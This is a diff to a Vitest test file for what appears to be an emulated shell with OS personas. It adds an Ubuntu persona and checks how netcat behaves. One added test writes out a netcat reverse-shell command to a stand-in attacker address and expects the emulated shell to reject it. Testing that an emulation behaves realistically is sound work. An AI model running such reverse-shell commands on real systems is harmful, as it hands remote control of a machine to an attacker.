@@ -7,7 +7,7 @@ import { describe, expect, it } from 'vitest'
 import { commandCatalogue } from '../src/protocols-text/shell/command-catalogue.ts'
 import { shellHost } from '../src/protocols-text/shell/persona.ts'
 import { createShell } from '../src/protocols-text/shell/shell.ts'
-import { alpinePersona, debianPersona, rockyPersona } from './shell-personas.ts'
+import { alpinePersona, debianPersona, rockyPersona, ubuntuPersona } from './shell-personas.ts'
 
 const NOW = Date.UTC(2026, 11, 3, 12, 0, 0)
 const debian = debianPersona('0123456789abcdef0123456789abcdef')
@@ -252,6 +252,17 @@ describe('what each persona’s OS ships', () => {
       'default via 10.20.30.1 dev eth0 proto static\n10.20.30.0/24 dev eth0 proto kernel scope link src 10.20.30.40\n',
     )
     expect(shell('ping -c 1 8.8.8.8')).toMatchObject({ status: 1 })
+    // Ubuntu ships OpenBSD netcat: no -e for a reverse shell; Debian's minimal install has no nc.
+    const ubuntu = login(ubuntuPersona('1'.repeat(32)))
+    expect(ubuntu('nc -e /bin/sh 198.51.100.7 4444')).toMatchObject({
+      status: 1,
+      output: expect.stringMatching(/^nc: invalid option -- 'e'\nusage: nc /),
+    })
+    expect(ubuntu('nc 198.51.100.7 4444').output).toBe(
+      'nc: connect to 198.51.100.7 port 4444 (tcp) failed: Connection timed out\n',
+    )
+    expect(ubuntu('nc 127.0.0.1 22').output).toBe('SSH-2.0-OpenSSH_8.9p1 Ubuntu-3ubuntu0.10\r\n')
+    expect(shell('nc 198.51.100.7 4444').output).toBe('-bash: nc: command not found\n')
     expect(shell('ping -c 2 10.20.30.1').output).toContain(
       '2 packets transmitted, 2 received, 0% packet loss',
     )
